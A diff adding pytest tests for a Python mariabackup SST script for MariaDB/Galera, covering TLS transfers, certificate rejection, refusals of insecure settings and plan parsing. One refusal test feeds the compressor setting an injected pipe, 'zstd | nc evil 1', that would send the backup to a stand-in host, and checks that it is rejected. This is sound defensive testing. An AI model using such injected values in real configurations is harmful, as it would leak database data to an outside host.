@@ -1,0 +1,207 @@
+"""mariabackup scripts without mariadbd: stage 1 and its acknowledgement, refusals."""
+
+from __future__ import annotations
+
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from sst import lab, net
+from sst.config import MYSQLD, Options, mariabackup_settings
+from sst.errors import ConfigError
+from sst.request import parse_request
+from tests.conftest import UUID, error_lines, free_port, start_script, write_cnf
+
+
+@pytest.fixture
+def parent() -> Iterator[subprocess.Popen[bytes]]:
+    p = subprocess.Popen(["sleep", "300"])
+    yield p
+    p.kill()
+    p.wait()
+
+
+def joiner_args(base: Path, port: int, parent_pid: int) -> list[str]:
+    return [
+        "--role",
+        "joiner",
+        "--address",
+        f"127.0.0.1:{port}",
+        "--datadir",
+        str(base / "data"),
+        "--defaults-file",
+        str(base / "my.cnf"),
+        "--parent",
+        str(parent_pid),
+        "--progress",
+        "0",
+    ]
+
+
+def donor_args(base: Path, address: str) -> list[str]:
+    return [
+        "--role",
+        "donor",
+        "--address",
+        address,
+        "--local-port",
+        "3306",
+        "--socket",
+        "/nonexistent.sock",
+        "--progress",
+        "0",
+        "--datadir",
+        str(base / "data"),
+        "--defaults-file",
+        str(base / "my.cnf"),
+        "--gtid",
+        f"{UUID}:9",
+        "--gtid-domain-id",
+        "0",
+        "--bypass",
+    ]
+
+
+def setup_pair(
+    tmp: Path, joiner_sst: dict[str, str], donor_sst: dict[str, str]
+) -> tuple[Path, Path]:
+    j, d = tmp / "j", tmp / "d"
+    for base, sst in ((j, joiner_sst), (d, donor_sst)):
+        (base / "data").mkdir(parents=True)
+        write_cnf(base, sst)
+    return j, d
+
+
+def test_ist_over_tls_with_acknowledgement(tmp_path: Path, parent: subprocess.Popen[bytes]) -> None:
+    c = lab.make_certs(str(tmp_path / "certs"), {"j": "127.0.0.1", "d": "127.0.0.1"}, owner="root")
+    opts = {
+        n: {
+            "ssl-mode": "VERIFY_IDENTITY",
+            "ssl-ca": c.ca,
+            "ssl-cert": c.certs[n][0],
+            "ssl-key": c.certs[n][1],
+        }
+        for n in ("j", "d")
+    }
+    j, d = setup_pair(tmp_path, opts["j"], opts["d"])
+    port = free_port()
+    js = start_script("py_mariabackup", joiner_args(j, port, parent.pid))
+    ready = js.readline()
+    auth, _, address = ready[6:].rpartition("@")
+    assert address == f"127.0.0.1:{port}/xtrabackup_sst/galera-sst-ack/1"
+    ds = start_script(
+        "py_mariabackup", donor_args(d, address), env={"WSREP_SST_OPT_REMOTE_AUTH": auth}
+    )
+    assert ds.readline() == "continue"
+    assert ds.readline() == f"done {UUID}:9"
+    assert ds.wait() == 0
+    assert js.readline() == f"{UUID}:9 0"
+    assert js.wait() == 0
+    assert "IST requested by the donor" in js.stderr()
+    assert not net.port_in_use(port, "127.0.0.1")
+
+
+def test_rejected_donor_never_prints_done(tmp_path: Path, parent: subprocess.Popen[bytes]) -> None:
+    """The joiner refuses a donor certificate from another CA; socat on the donor may exit
+    0, but without the joiner's acknowledgement the donor fails and prints no `done`."""
+    c = lab.make_certs(str(tmp_path / "certs"), {"j": "127.0.0.1"}, owner="root")
+    other = lab.make_certs(str(tmp_path / "other"), {"d": "127.0.0.1"}, owner="root")
+    j, d = setup_pair(
+        tmp_path,
+        {
+            "ssl-mode": "VERIFY_CA",
+            "ssl-ca": c.ca,
+            "ssl-cert": c.certs["j"][0],
+            "ssl-key": c.certs["j"][1],
+        },
+        # The donor trusts the joiner's CA, but its own certificate is from another CA.
+        {
+            "ssl-mode": "VERIFY_CA",
+            "ssl-ca": c.ca,
+            "ssl-cert": other.certs["d"][0],
+            "ssl-key": other.certs["d"][1],
+            "ssl-client-ca": c.ca,
+        },
+    )
+    # The donor's own pre-flight checks its cert against its CA: give it a bundle of both.
+    bundle = tmp_path / "both-ca.pem"
+    bundle.write_bytes(Path(c.ca).read_bytes() + Path(other.ca).read_bytes())
+    write_cnf(
+        d,
+        {
+            "ssl-mode": "VERIFY_CA",
+            "ssl-ca": str(bundle),
+            "ssl-cert": other.certs["d"][0],
+            "ssl-key": other.certs["d"][1],
+        },
+    )
+    port = free_port()
+    js = start_script("py_mariabackup", joiner_args(j, port, parent.pid))
+    auth, _, address = js.readline()[6:].rpartition("@")
+    ds = start_script(
+        "py_mariabackup", donor_args(d, address), env={"WSREP_SST_OPT_REMOTE_AUTH": auth}
+    )
+    assert ds.readline() == "continue"
+    assert ds.readline() == ""  # no `done`
+    assert ds.wait() == 32
+    derr = ds.stderr()
+    assert "did not acknowledge" in error_lines(derr)[0]
+    assert js.wait(30) == 32
+    assert len(error_lines(js.stderr())) == 1
+    assert not net.port_in_use(port, "127.0.0.1")
+
+
+def settings_error(sst: dict[str, str | None], role: str = "joiner") -> str:
+    req = parse_request(
+        "wsrep_sst_py_mariabackup", ["--role", role, "--datadir", "/d", "--address", "h"], {}
+    )
+    with pytest.raises(ConfigError) as e:
+        mariabackup_settings(req, Options({MYSQLD: {}, "sst": sst}))
+    return e.value.message
+
+
+def test_refusals_instead_of_silent_downgrades() -> None:
+    assert "needs a CA" in settings_error(
+        {"ssl-mode": "VERIFY_IDENTITY", "ssl-cert": "c", "ssl-key": "k"}
+    )
+    assert "refusing to fall back to cleartext" in settings_error({"ssl-mode": "REQUIRED"})
+    assert "encrypt=1" in settings_error({"encrypt": "1"})
+    assert "encrypt=4 needs a CA" in settings_error({"encrypt": "4", "tcert": "c", "tkey": "k"})
+    msg = settings_error({"compressor": "zstd | nc evil 1", "transferfmt": "nc"})
+    assert "shell syntax" in msg and "only socat" in msg
+
+
+def test_plans() -> None:
+    req = parse_request(
+        "wsrep_sst_py_mariabackup", ["--role", "donor", "--datadir", "/d", "--address", "h"], {}
+    )
+
+    def plan(sst: dict[str, str | None]) -> tuple[str, bool, bool]:
+        s = mariabackup_settings(req, Options({MYSQLD: {}, "sst": sst}))
+        return s.plan.label, s.plan.verify, s.plan.check_name
+
+    assert plan({}) == ("plain", False, False)
+    assert plan({"ssl-mode": "REQUIRED", "ssl-cert": "c", "ssl-key": "k", "ssl-ca": "a"}) == (
+        "TLS REQUIRED (encrypt=3)",
+        False,
+        False,
+    )
+    assert plan({"ssl-mode": "VERIFY_CA", "ssl-cert": "c", "ssl-key": "k", "ssl-ca": "a"}) == (
+        "TLS VERIFY_CA (encrypt=3)",
+        True,
+        False,
+    )
+    assert plan({"encrypt": "4", "tcert": "c", "tkey": "k", "tca": "a"}) == (
+        "TLS (encrypt=4)",
+        True,
+        False,
+    )
+    assert plan({"encrypt": "3", "tcert": "c", "tkey": "k", "tca": "a"})[1:] == (True, True)
+    s = mariabackup_settings(
+        req,
+        Options({MYSQLD: {}, "sst": {"compressor": "zstd -1 -T2", "cpat": r".*/\(foo\|bar\)$"}}),
+    )
+    assert s.compressor == ("zstd", "-1", "-T2")
+    assert s.cpat == ".*/(foo|bar)$"
